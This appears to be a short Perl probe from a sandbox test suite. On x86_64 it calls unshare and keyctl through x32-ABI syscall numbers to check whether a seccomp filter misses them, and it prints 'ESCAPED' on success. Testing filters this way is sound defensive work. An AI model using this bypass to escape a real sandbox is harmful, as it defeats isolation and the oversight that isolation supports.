# Calls the kernel in the way of another architecture, whose numbers a filter may have forgotten.
use POSIX qw(uname);
if ((uname())[4] eq "x86_64") {
    # x32: the same numbers with a bit set. unshare and keyctl.
    print "ESCAPED: unshare\n" if syscall(0x40000000 | 272, 0x10000000) == 0;
    print "ESCAPED: keyctl\n" if syscall(0x40000000 | 250, 0, -4, 0) != -1;
}
